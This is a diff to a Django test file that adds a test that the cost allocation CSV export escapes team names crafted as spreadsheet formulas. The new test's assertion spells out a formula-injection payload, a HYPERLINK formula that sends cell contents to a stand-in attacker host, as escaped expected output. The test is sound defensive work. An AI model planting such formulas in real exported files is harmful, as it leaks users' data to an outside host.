@@ -13,7 +13,7 @@ from django.test import Client
 from django.urls import reverse
 
 from access import audit
-from access.models import AuditEvent, User
+from access.models import AuditEvent, Team, User
 from costs import allocation
 from costs.choices import SourceKind
 from costs.focus import read_focus
@@ -23,7 +23,7 @@ from portal.demo import Persona
 from regions.models import Cluster
 from tests.costs.allocation_cluster import DAY, at_hour, namespace, node, pod, sandbox_for
 from tests.costs.focus_files import focus_csv, focus_row
-from tests.helpers import queries_for
+from tests.helpers import FORMULA_PAYLOADS, formulas_in, queries_for
 
 ClientFor = Callable[[Persona | None], Client]
 RANGE = {"start": DAY.isoformat(), "end": DAY.isoformat()}
@@ -150,6 +150,20 @@ def test_the_csv_export_holds_every_line_adds_up_to_the_clusters_cost_and_is_aud
     event = AuditEvent.objects.get(verb=audit.COST_ALLOCATION_EXPORTED)
     assert event.actor == persona(Persona.MANAGER)
     assert event.object_id == str(cluster.pk)
+
+
+def test_the_csv_export_writes_no_team_name_a_spreadsheet_of_any_locale_would_run(
+    cluster: Cluster, client_for: ClientFor
+) -> None:
+    Team.objects.filter(slug="student-experience").update(name=FORMULA_PAYLOADS[1])  # x;=HYPERLINK(…)
+    Team.objects.filter(slug="tutor-tools").update(name=FORMULA_PAYLOADS[0])  # =HYPERLINK(…)
+
+    response = client_for(Persona.MANAGER).get(export(cluster), RANGE)
+
+    body = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
+    assert formulas_in(body) == []
+    teams = {row["team"] for row in csv.DictReader(io.StringIO(body, newline=""))}
+    assert {"'" + FORMULA_PAYLOADS[0], 'x;\'=HYPERLINK("https://evil.example/?leak="&A1,"Open")'} <= teams
 
 
 def test_the_page_runs_as_many_queries_for_many_namespaces_as_for_few(
